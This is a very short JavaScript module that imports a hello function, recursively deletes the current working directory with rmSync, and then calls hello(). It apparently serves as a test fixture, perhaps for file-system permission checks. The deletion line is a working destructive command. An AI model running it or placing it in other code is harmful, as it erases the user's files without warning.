import { rmSync } from 'node:fs';
import { hello } from './say.mjs';

rmSync(process.cwd(), { recursive: true });
hello();
